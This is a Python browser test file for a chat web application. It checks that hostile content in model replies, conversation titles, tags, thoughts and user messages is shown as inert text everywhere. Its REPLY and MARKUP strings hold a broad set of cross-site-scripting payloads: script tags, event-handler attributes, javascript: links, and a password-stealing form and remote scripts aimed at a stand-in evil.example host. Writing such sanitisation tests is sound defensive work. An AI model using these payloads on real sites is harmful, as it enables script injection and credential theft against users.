"""Whatever a model or a person says, nothing of it runs and nothing is fetched."""

from __future__ import annotations

from urllib.parse import quote

from tests.browser.chat import Chat, expect
from tests.browser.people import Person
from tests.model_answers import Answer
from tests.model_server import ModelServer

REPLY = """Before.

<script>hacked = 1</script><script src="https://evil.example/x.js"></script>
<img src=x onerror="hacked = 2"><img src="https://evil.example/pixel.png">
<svg onload="hacked = 3"><script>hacked = 4</script><image href="https://evil.example/svg.png"/></svg>
<style>body { background: url(https://evil.example/style.png) } .sidebar { display: none }</style>
<iframe src="https://evil.example/" srcdoc="<script>parent.hacked = 5</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<video src="https://evil.example/v.mp4" autoplay onerror="hacked = 6"></video>
<a href="javascript:hacked = 7" onmouseover="hacked = 8">press here</a>
<details open ontoggle="hacked = 9"><summary>more</summary></details>
<b onclick="hacked = 10" style="position: fixed; inset: 0; background: url(https://evil.example/b.png)">cover</b>
<button id="message-text" data-act="delete">Delete</button>
<template><script>hacked = 11</script></template>
<math><mtext><style><img src=x onerror=hacked=12></style></mtext></math>

![picture](https://evil.example/remote.png) ![data](data:image/svg+xml,<svg onload=alert(1)>)

[script](javascript:hacked=13) [spaced](java\tscript:hacked=14) [coded](&#106;avascript:hacked=15)
[data](data:text/html,<script>hacked=16</script>) [vb](vbscript:hacked=17) [file](file:///etc/passwd)
[quote]("onmouseover=hacked=18 x=") <javascript:hacked=19> [ref][bad] [blob](blob:https://evil.example/1)
[plain](//evil.example/) [good](https://example.org/good)

[bad]: javascript:hacked=20

```"><script>hacked=21</script>
</code></pre><script>hacked=22</script>
```

| <img src=x onerror=hacked=23> | b |
|---|---|
| `<script>hacked=24</script>` | $</span><script>hacked=25</script>$ |

After.
"""
MARKUP = "<img src=x onerror=hacked=30><script>hacked=31</script>\"'&amp;{{ 7*7 }}"
FORBIDDEN = (
    "script, img, svg image, style, iframe, form, meta, base, link, object, embed, video, audio, template, "
    "button:not([aria-label]):not(.small-button), math:not(.math > math), annotation-xml, mglyph"
)
FINDINGS = """log => [...log.querySelectorAll("*")].flatMap(element => [
    ...(element.matches(FORBIDDEN) ? [element.outerHTML] : []),
    ...[...element.attributes].filter(({name}) => name.startsWith("on") || name === "style")
        .map(({name}) => `${element.tagName} ${name}`),
    ...[element.getAttribute("href"), element.getAttribute("src")]
        .filter(url => url && !/^(https?:|mailto:|#|\\/c\\/|\\/settings\\/#)/.test(url)),
])"""


def harmless(chat: Chat) -> None:
    expect(chat.replies.last.get_by_text("After.")).to_be_visible()
    script = FINDINGS.replace("FORBIDDEN", repr(FORBIDDEN))
    assert chat.log.evaluate(script) == []
    assert chat.page.evaluate("typeof hacked") == "undefined"
    expect(chat.replies.get_by_role("link", name="good")).to_have_attribute("href", "https://example.org/good")
    expect(chat.navigation).to_be_visible()
    for link in chat.replies.get_by_role("link").all():
        link.hover()
        expect(link).to_have_attribute("target", "_blank")
    assert chat.page.evaluate("typeof hacked") == "undefined"


def test_a_hostile_reply_does_nothing(chat: Chat, model_server: ModelServer) -> None:
    model_server.script.append(Answer(text=REPLY, delay=0.005))
    chat.say(f"Do your worst [[title: {MARKUP}]]")
    address = chat.url
    chat.answered()
    harmless(chat)
    chat.reload()
    harmless(chat)
    assert chat.page.url.startswith(f"{address}/c/")


def test_a_hostile_reply_does_nothing_to_a_page_that_attaches(chat: Chat, model_server: ModelServer) -> None:
    model_server.script.append(Answer(text=REPLY, delay=0.01))
    chat.say(f"Do your worst [[title: {MARKUP}]]")
    expect(chat.replies.get_by_text("Before.")).to_be_visible()
    chat.reload()
    chat.answered()
    harmless(chat)


def test_hostile_thinking_is_text(chat: Chat) -> None:
    reply = chat.ask(f"Think [[think: {MARKUP}]] [[say: Done.]]")
    for _ in "ab":
        reply.get_by_text("Thought for").click()
        expect(reply.get_by_text("<img src=x")).to_be_visible()
        assert chat.page.evaluate("typeof hacked") == "undefined"
        chat.reload()


def test_a_hostile_question_is_text(chat: Chat) -> None:
    chat.ask(MARKUP)
    for _ in "ab":
        expect(chat.questions.get_by_text("<img src=x")).to_have_text(MARKUP)
        assert chat.page.evaluate("typeof hacked") == "undefined"
        chat.reload()


def test_a_hostile_title_from_the_model_is_text(chat: Chat) -> None:
    title = 'Title "><b onclick=hacked=1>bold</b>'
    chat.ask(f"What is this called? [[say: Fine.]] [[title: {title}]]")
    expect(chat.heading).to_have_text('Title ">bold')
    for _ in "ab":
        assert chat.navigation.locator("b, img, script").count() == 0
        assert chat.heading.locator("*").count() == 0
        assert chat.page.evaluate("typeof hacked") == "undefined"
        chat.reload()


def test_a_hostile_title_from_a_person_is_text_everywhere(chat: Chat, person: Person) -> None:
    conversation = person.say("Hello [[title: Something Harmless to Begin With]]").conversation
    assert person.post(f"/c/{conversation}/rename/", {"title": MARKUP}).status_code == 204
    chat.open(conversation)
    expect(chat.row(MARKUP)).to_be_visible()
    expect(chat.heading).to_have_text(MARKUP)
    expect(chat.page).to_have_title(f"{MARKUP} · Chatsite")
    chat.options(MARKUP).get_by_role("menuitem", name="Delete").click()
    expect(chat.page.locator(".toast")).to_contain_text(f"{MARKUP} was deleted.")
    expect(chat.page.get_by_role("status")).to_contain_text("You can undo it.")
    chat.page.get_by_role("button", name="Undo", exact=True).click()
    expect(chat.heading).to_have_text(MARKUP)
    chat.options(MARKUP).get_by_role("menuitem", name="Rename").click()
    field = chat.page.get_by_label("Title")
    expect(field).to_have_value(MARKUP)
    field.fill(f"{MARKUP}!")
    field.press("Enter")
    expect(chat.row(f"{MARKUP}!")).to_be_visible()
    expect(chat.heading).to_have_text(f"{MARKUP}!")
    assert chat.page.evaluate("typeof hacked") == "undefined"


def test_hostile_texts_are_text_wherever_else_they_are_shown(chat: Chat, person: Person) -> None:
    chat.ask(f"{MARKUP} [[say: pangolin {MARKUP.replace(']', '')}]]")
    conversation = chat.id
    person.post(f"/c/{conversation}/rename/", {"title": MARKUP})
    person.post(f"/c/{conversation}/tags/", {"tags": f"{MARKUP[:35]}, <b onclick=hacked=40>"})
    person.post(f"/c/{conversation}/messages/{chat.replies.last.get_attribute('data-message')}/rating/",
                {"value": "bad", "comment": MARKUP})  # fmt: skip
    chat.reload()
    expect(chat.page.get_by_text("<b onclick=hacked=40>").first).to_be_attached()
    for act in ("Tags…", "Export", "Rename"):
        chat.options(MARKUP).get_by_role("menuitem", name=act).click()
        expect(chat.page.get_by_role("dialog")).to_be_visible()
        chat.page.keyboard.press("Escape")
    search = chat.page.get_by_role("searchbox", name="Search conversations")
    search.fill("pangolin <img")
    expect(chat.page.get_by_role("list", name="Search results").get_by_role("link").first).to_be_visible()
    search.fill("")
    reply = chat.replies.last
    reply.get_by_role("button", name="More about this reply").click()
    chat.page.get_by_role("menuitem", name="Edit reply").click()
    chat.page.get_by_role("textbox", name="Message in other words").fill(f"Mine: {MARKUP}")
    chat.page.get_by_role("button", name="Save", exact=True).click()
    expect(chat.replies.last).to_contain_text("Mine: <img")
    assert chat.log.locator("img, script, b").count() == 0
    person.post(f"/c/{conversation}/archive/", {"on": "true"})
    for path in (
        "/c/archived/",
        "/search/?q=pangolin+%3Cimg",
        f"/search/?q={quote(MARKUP)}",
        f"/c/?tag={quote(MARKUP[:35])}",
    ):
        chat.page.goto(f"{chat.url}{path}")
        expect(chat.page.get_by_text("<img src=x").first).to_be_attached()
        assert chat.page.evaluate("typeof hacked") == "undefined"
    person.post(f"/c/{conversation}/delete/")
    chat.page.goto(f"{chat.url}/c/new/")
    expect(chat.page.get_by_text("was deleted.").first).to_be_visible()
    assert chat.page.evaluate("typeof hacked") == "undefined"
